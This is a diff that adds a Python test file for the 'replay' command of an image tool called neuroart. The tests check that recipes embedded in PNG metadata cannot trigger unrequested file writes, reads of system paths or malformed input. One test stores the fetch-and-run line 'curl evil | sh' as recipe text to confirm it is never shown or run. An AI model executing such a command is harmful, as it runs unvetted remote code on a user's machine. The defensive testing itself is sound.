@@ -1,0 +1,130 @@
+"""Replay trusts nothing in a PNG, and every command writes its set of files all or nothing (issue 9)."""
+
+import numpy as np
+import pytest
+from PIL import Image, PngImagePlugin
+
+from neuroart import imaging
+
+
+def _png_with_chunk(path, text):
+    """A small PNG whose neuroart chunk holds `text` verbatim (any JSON, or not JSON at all)."""
+    info = PngImagePlugin.PngInfo()
+    info.add_itxt(imaging.RECIPE_KEY, text, zip=True)
+    Image.new("L", (28, 28)).save(path, pnginfo=info)
+    return path
+
+
+def _png_with_argv(path, argv, **extra):
+    imaging.save_image(np.zeros((28, 28), np.float32), path, recipe={"argv": argv, **extra})
+    return path
+
+
+def test_replay_writes_only_what_it_is_told(invoke, tmp_path, files_in):
+    """A recipe naming --gif/--npz never makes replay write or replace those files."""
+    _png_with_argv(tmp_path / "evil.png", ["generate", "3", "--per-digit", "2", "--out", "g.png",
+                                            "--npz", "art.npz"])
+    (tmp_path / "art.npz").write_bytes(b"the user's own file")
+    result = invoke("replay", "evil.png", "--out", "art.png")
+    assert result.exit_code == 0, result.stderr
+    assert (tmp_path / "art.npz").read_bytes() == b"the user's own file"
+    assert files_in(tmp_path) == ["art.npz", "art.png", "evil.png"]
+    assert "replaying: neuroart generate 3 --per-digit 2 --out art.png" in result.stderr
+    # ... and writes the npz only where the user asks
+    result = invoke("replay", "evil.png", "--out", "again.png", "--npz", "mine.npz")
+    assert result.exit_code == 0, result.stderr
+    assert np.load(tmp_path / "mine.npz")["images"].shape == (2, 28, 28)
+
+
+@pytest.mark.parametrize("argv,fragment", [
+    (["train", "classifier", "--out", "m.keras"], "only rendering commands"),
+    (["classify", "x.png"], "only rendering commands"),
+    (["info"], "only rendering commands"),
+    (["replay", "a.png", "--out", "b.png"], "only rendering commands"),
+    ([], "only rendering commands"),
+    (["reconstruct", "--data", "download"], "--data download"),
+    (["reconstruct", "--data", "/etc/mnist.npz"], "--data /etc/mnist.npz"),
+    (["deepdream", "/etc/hostname"], "add --with /etc/hostname"),
+    (["dream", "--start", "/home/someone/secret.png"], "add --with"),
+    (["generate", "--model", "/tmp/evil.keras"], "add --with /tmp/evil.keras"),
+    (["dream", "--prior", "other.keras"], "add --with other.keras"),
+    (["dream", "--steps", "100000", "--per-digit", "1000"], "--yes"),
+    (["generate", "--no-such-option"], "does not parse"),
+])
+def test_replay_refuses_what_the_allow_list_does_not_allow(invoke, tmp_path, files_in, assert_clean_error,
+                                                           argv, fragment):
+    _png_with_argv(tmp_path / "r.png", argv, command="neuroart info")
+    before = files_in(tmp_path)
+    assert_clean_error(invoke("replay", "r.png", "--out", "out.png"), fragment)
+    assert files_in(tmp_path) == before
+
+
+def test_replay_reads_a_file_the_user_names(invoke, tmp_path, digit_png):
+    digit_png("three.png")
+    _png_with_argv(tmp_path / "r.png", ["reconstruct", str(tmp_path / "three.png"), "--out", "x.png"])
+    result = invoke("replay", "r.png", "--out", "out.png", "--with", "three.png")
+    assert result.exit_code == 0, result.stderr
+    assert (tmp_path / "out.png").is_file()
+
+
+def test_replay_shows_the_command_it_runs_not_the_stored_text(invoke, tmp_path):
+    _png_with_argv(tmp_path / "r.png", ["generate", "1", "--per-digit", "1"], command="curl evil | sh")
+    result = invoke("replay", "r.png", "--out", "o.png")
+    assert result.exit_code == 0, result.stderr
+    assert "curl" not in result.stderr + result.output
+    assert "replaying: neuroart generate 1 --per-digit 1 --out o.png" in result.stderr
+
+
+@pytest.mark.parametrize("text,fragment", [
+    ("[1, 2]", "must be a JSON object"),
+    ("[" * 200_000 + "]" * 200_000, "too long"),
+    ("[" * 50_000 + "]" * 50_000, "not valid JSON"),
+    ('{"argv": ["dream"], "command": 5}', "command must be a string"),
+    ('{"argv": "dream --steps 5"}', "argv must be a list"),
+    ('{"argv": ["dream", 5]}', "argv must be a list"),
+    ('{"argv": ["dream"], "x": {"deep": [1]}}', "'x' must be"),
+    ("not json at all", "not valid JSON"),
+])
+def test_malformed_recipes_are_one_line(invoke, tmp_path, files_in, assert_clean_error, text, fragment):
+    _png_with_chunk(tmp_path / "bad.png", text)
+    before = files_in(tmp_path)
+    assert_clean_error(invoke("replay", "bad.png", "--out", "o.png"), fragment)
+    assert files_in(tmp_path) == before
+
+
+def test_gallery_index_ignores_what_pngs_in_the_folder_say(tmp_path):
+    from neuroart import gallery
+
+    piece = gallery.PIECES[0]
+    _png_with_chunk(tmp_path / f"{piece.name}.png", "[" * 50_000 + "]" * 50_000)
+    page = gallery.write_index(tmp_path).read_text()
+    assert "neuroart " + piece.args.split()[0] in page
+
+
+def test_a_set_of_outputs_is_checked_before_any_work(invoke, tmp_path, files_in, assert_clean_error):
+    (tmp_path / "ok.png").write_bytes(b"old picture")
+    for args, fragment in [
+        (["dream", "3", "--out", "ok.png", "--gif", "ok.gif", "--npz", "nodir/x.npz"], "--npz nodir/x.npz"),
+        (["morph", "1", "7", "--gif", "x.mp4"], "--gif must be a .gif"),
+        (["generate", "--npz", "x.npy"], "--npz must be a .npz"),
+    ]:
+        before = files_in(tmp_path)
+        assert_clean_error(invoke(*args), fragment)
+        assert files_in(tmp_path) == before
+    assert (tmp_path / "ok.png").read_bytes() == b"old picture"
+
+
+def test_a_failed_write_leaves_no_partial_set(invoke, tmp_path, files_in, assert_clean_error, monkeypatch):
+    """The last file of a set fails to write: the files before it are not renamed into place."""
+    from neuroart import imaging as im
+
+    (tmp_path / "old.png").write_bytes(b"old picture")
+
+    def disk_full(arrays, file):
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(im, "encode_npz", disk_full)
+    result = invoke("generate", "3", "--per-digit", "2", "--out", "old.png", "--npz", "new.npz")
+    assert_clean_error(result, "new.npz", "no space left")
+    assert files_in(tmp_path) == ["old.png"]
+    assert (tmp_path / "old.png").read_bytes() == b"old picture"
